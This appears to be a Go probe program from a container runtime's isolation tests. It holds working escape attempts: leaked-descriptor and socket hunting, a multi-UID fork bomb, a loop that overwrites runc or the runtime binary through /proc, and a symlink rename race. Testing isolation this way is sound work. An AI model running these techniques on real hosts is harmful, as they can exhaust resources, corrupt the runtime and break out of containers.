package main

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"github.com/coracle-cri/coracle/cmd/threads"
)

// descriptors come first, before this program has opened any itself.
func descriptors() []attempt {
	return []attempt{
		{"descriptors beyond the standard three", func() (string, error) { return strangers("/proc/self/fd") }},
		{"descriptors of the first process", func() (string, error) {
			if _, err := find("init"); err == nil {
				return "", errors.New("it is the node's")
			}
			return strangers("/proc/1/fd")
		}},
		{"working directory outside", func() (string, error) {
			// Of a directory that is not below the root getcwd(2) says "(unreachable)".
			dir, err := unix.Getcwd(make([]byte, unix.PathMax))
			if err == nil && dir == 0 {
				return "", errors.New("no directory")
			}
			link, err := os.Readlink("/proc/self/cwd")
			if err != nil {
				return "", err
			}
			if strings.HasPrefix(link, "(unreachable)") {
				return link, nil
			}
			return "", errors.New("it is " + link)
		}},
	}
}

// strangers are descriptors that are neither standard streams nor the runtime's own (epoll, eventfd).
func strangers(dir string) (string, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return "", err
	}
	var found []string
	for _, e := range entries {
		n, err := strconv.Atoi(e.Name())
		link, lerr := os.Readlink(filepath.Join(dir, e.Name()))
		if err != nil || lerr != nil || n < 3 || strings.HasPrefix(link, "anon_inode:[event") {
			continue
		}
		found = append(found, e.Name()+"="+link)
	}
	if len(found) == 0 {
		return "", errAbsent
	}
	return strings.Join(found, " "), nil
}

func files() []attempt {
	return []attempt{
		{"sockets in the file system", sockets},
		{"state of the node", func() (string, error) {
			dir, err := given(stateEnv)
			if err != nil {
				return "", err
			}
			return list(dir)
		}},
	}
}

// sockets looks for a door in everything that the container sees, but for what the kernel shows.
func sockets() (string, error) {
	var found []string
	err := filepath.WalkDir("/", func(path string, e fs.DirEntry, err error) error {
		switch {
		case err != nil:
			return nil
		case path == "/proc" || path == "/sys":
			return fs.SkipDir
		case e.Type()&fs.ModeSocket != 0:
			found = append(found, path)
		}
		return nil
	})
	if err != nil {
		return "", err
	}
	if len(found) == 0 {
		return "", errAbsent
	}
	return strings.Join(found, " "), nil
}

// bomb starts processes that wait, by turns of so many user ids, until none of them may start another, and says how many.
// Until its end it then takes whatever becomes free.
func bomb(ids int) {
	threads.Keep(8) // it is a Go program itself, which would end when it gets none
	started, failed := 0, 0
	var last error
	try := func() {
		who := &syscall.Credential{Uid: uint32(os.Getuid() + (started+failed)%ids), Gid: uint32(os.Getgid()), NoSetGroups: true}
		attr := &syscall.ProcAttr{Sys: &syscall.SysProcAttr{Credential: who}}
		if _, err := syscall.ForkExec("/bin/sleep", []string{"sleep", "1000"}, attr); err != nil {
			last = err
			failed++
		} else {
			started, failed = started+1, 0
		}
	}
	for failed < ids {
		try()
	}
	fmt.Println("bomb:", started, last)
	c := make(chan os.Signal, 1)
	signal.Notify(c, syscall.SIGTERM)
	for {
		select {
		case <-c:
			return
		case <-time.After(time.Millisecond):
			try()
		}
	}
}

// overwrite looks for programs of the runtime's that run in this pid namespace, as they do on their way into the
// container, and writes into each what it has there already. It says which let it.
func overwrite() {
	seen := map[string]bool{}
	for {
		programs, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, program := range programs {
			f, err := os.Open(program)
			if err != nil {
				continue
			}
			name, err := os.Readlink(program)
			if err == nil && !seen[name] {
				fmt.Println("overwrite: saw", name)
				seen[name] = true
			}
			rewrite(f, name)
			f.Close()
		}
	}
}

// rewrite opens the file anew for writing, which the kernel allows once nobody executes it.
func rewrite(f *os.File, name string) {
	if !strings.Contains(name, "coracle") && !strings.Contains(name, "memfd") && !strings.Contains(name, "runc") {
		return
	}
	for range 20 {
		w, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(int(f.Fd())), os.O_WRONLY, 0)
		if err != nil {
			continue
		}
		if _, err := w.WriteAt([]byte("\x7fELF"), 0); err == nil {
			fmt.Println("overwrite: through", name)
		}
		w.Close()
	}
}

// exchange swaps two names of a directory for ever: the second is a symbolic link.
func exchange(dir string) {
	a, b := filepath.Join(dir, "a"), filepath.Join(dir, "b")
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
			fmt.Println("exchange:", err)
			return
		}
	}
}
